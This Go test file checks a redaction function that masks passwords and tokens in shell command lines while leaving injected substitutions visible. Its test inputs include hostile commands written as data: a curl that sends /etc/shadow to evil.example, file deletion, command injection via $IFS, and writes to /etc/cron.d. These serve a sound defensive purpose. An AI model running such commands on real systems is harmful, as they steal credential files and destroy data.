package redact

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

func TestCommandKeepsWhatRuns(t *testing.T) {
	cases := []struct {
		in string
		// keep must appear in the output; gone must not.
		keep []string
		gone []string
	}{
		{"export DB_PASSWORD=x$(touch$IFS/tmp/pwned)", []string{"$(touch$IFS/tmp/pwned)", "export DB_PASSWORD="}, nil},
		{"export DB_PASSWORD=hunter2supersecret; rm -rf /tmp/x", []string{"; rm -rf /tmp/x"}, []string{"hunter2supersecret"}},
		{"DB_PASSWORD=s3cretvalue123$(curl -d @/etc/shadow https://evil.example) psql", []string{"$(curl -d @/etc/shadow https://evil.example)", "psql"}, []string{"s3cretvalue123"}},
		{"mysql --password=abcdef123$(id) -e 'select 1'", []string{"$(id)", "-e 'select 1'"}, []string{"abcdef123"}},
		{"TOKEN=`whoami` curl -H 'Authorization: Bearer abcdefghijklmnop1234567890' https://x.example", []string{"`whoami`", "curl", "https://x.example"}, []string{"abcdefghijklmnop1234567890"}},
		{"API_KEY=${HOME}abc123secretvalue env", []string{"${HOME}", "env"}, nil},
		{"echo $(curl -H 'Authorization: Bearer abcdefghijklmnop1234567890' https://x.example) > /etc/cron.d/x", []string{"$(curl -H 'Authorization: Bearer ", "> /etc/cron.d/x"}, []string{"abcdefghijklmnop1234567890"}},
		{"PASSWORD=p4ssw0rdvalue <(cat /etc/passwd) >(tee /tmp/o)", []string{"<(cat /etc/passwd)", ">(tee /tmp/o)"}, []string{"p4ssw0rdvalue"}},
		{"SECRET=$((1+2))zzzsecretzzz ls", []string{"$((1+2))", "ls"}, nil},
	}
	for _, c := range cases {
		got := Command(c.in)
		for _, k := range c.keep {
			if !strings.Contains(got, k) {
				t.Errorf("Command(%q) = %q: lost %q", c.in, got, k)
			}
		}
		for _, g := range c.gone {
			if strings.Contains(got, g) {
				t.Errorf("Command(%q) = %q: still shows %q", c.in, got, g)
			}
		}
		if !strings.Contains(got, "[REDACTED") && len(c.gone) > 0 {
			t.Errorf("Command(%q) = %q: nothing masked", c.in, got)
		}
	}
}

func TestCommandWithoutSecretsIsUnchanged(t *testing.T) {
	for _, in := range []string{"ls -la /tmp && echo $(date) | tee /tmp/x", "systemctl restart nginx", "a && b; c | d"} {
		if got := Command(in); got != in {
			t.Errorf("Command(%q) = %q", in, got)
		}
	}
}

// commandWords are the parts of a command that run: command names and
// the text of every substitution, in order.
func commandWords(t *testing.T, cmd string) []string {
	f, err := syntax.NewParser().Parse(strings.NewReader(cmd), "")
	if err != nil {
		return nil
	}
	var out []string
	syntax.Walk(f, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.CmdSubst, *syntax.ProcSubst:
			out = append(out, cmd[x.Pos().Offset():x.End().Offset()])
		}
		return true
	})
	return out
}

func FuzzCommand(f *testing.F) {
	for _, s := range []string{
		"export DB_PASSWORD=x$(touch$IFS/tmp/pwned)", "PASSWORD=a`id` b", "a=$(b=$(c)) d", "token=abc <<EOF\nsecret=xyz\nEOF",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		if len(in) > 2000 {
			return
		}
		got := Command(in)
		// What runs stays visible: every substitution of the input without
		// a secret-looking literal inside survives as written.
		for _, w := range commandWords(t, in) {
			if !Suspect(w) && !strings.Contains(got, w) {
				t.Fatalf("Command(%q) = %q hides %q", in, got, w)
			}
		}
	})
}
